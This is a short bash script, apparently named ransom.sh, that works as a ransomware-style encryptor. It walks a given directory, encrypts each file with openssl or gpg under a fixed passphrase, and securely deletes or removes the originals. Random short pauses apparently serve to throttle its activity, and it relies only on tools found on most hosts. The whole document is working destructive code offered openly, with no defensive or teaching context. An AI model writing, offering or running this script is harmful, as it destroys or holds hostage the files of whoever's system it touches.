#!/bin/bash
# ransom.sh TREE [openssl|gpg]: the same with the tools that every host has
export GNUPGHOME=/var/tmp/gh; mkdir -p $GNUPGHOME; chmod 700 $GNUPGHOME
find "$1" -type f ! -name '*.enc' | while read -r f; do
  case ${2:-openssl} in
  openssl) openssl enc -aes-256-cbc -pbkdf2 -iter 1000 -pass pass:x -in "$f" -out "$f.enc" && shred -u "$f" ;;
  gpg) gpg --batch --yes --quiet --pinentry-mode loopback --passphrase x --s2k-count 65536 -c -o "$f.enc" "$f" && rm -f "$f" ;;
  esac
  [ $((RANDOM % 5)) = 0 ] && sleep 0.1
done
